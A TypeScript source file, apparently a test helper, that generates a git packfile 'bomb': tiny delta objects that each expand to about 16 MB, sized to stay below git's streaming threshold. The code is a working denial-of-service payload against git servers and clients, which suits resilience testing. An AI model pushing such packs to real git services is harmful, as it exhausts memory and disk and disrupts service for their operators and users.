import { createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'

/** What one byte of a difference copies: 64 KiB from the beginning of its base (git's `gitformat-pack`, "Deltified representation"). */
const copied = 64 * 2 ** 10
const copyAll = 0x80

/** Just below what git streams instead of holding: each object of the bomb has so many bytes. */
const copies = 250

const number = (value: number): number[] => {
  const bytes: number[] = []
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return [...bytes, rest]
    bytes.push((rest % 128) | 128)
  }
}

const entryHead = (type: number, size: number): Buffer => {
  const first = (type << 4) | (size & 15)
  const rest = Math.floor(size / 16)
  return Buffer.from(rest === 0 ? [first] : [first | 128, ...number(rest)])
}

const differenceOf = (index: number): Buffer => {
  const mark = Buffer.alloc(4)
  mark.writeUInt32BE(index)
  const size = copies * copied + mark.length
  return Buffer.from([...number(copied), ...number(size), ...Array<number>(copies).fill(copyAll), mark.length, ...mark])
}

/** A pack of one small object and so many others, each of 16 MB, that are told as differences to it: 80 bytes for each. */
export const bombPack = (objects: number): Buffer => {
  const base = Buffer.alloc(copied, 'x')
  const baseId = createHash('sha1').update(`blob ${base.length}\0`).update(base).digest()
  const head = Buffer.from('PACK\0\0\0\x02\0\0\0\0', 'latin1')
  head.writeUInt32BE(objects + 1, 8)
  const entries = Array.from({ length: objects }, (_, index) => {
    const difference = differenceOf(index)
    return Buffer.concat([entryHead(7, difference.length), baseId, deflateSync(difference)])
  })
  const pack = Buffer.concat([head, entryHead(3, base.length), deflateSync(base), ...entries])
  return Buffer.concat([pack, createHash('sha1').update(pack).digest()])
}
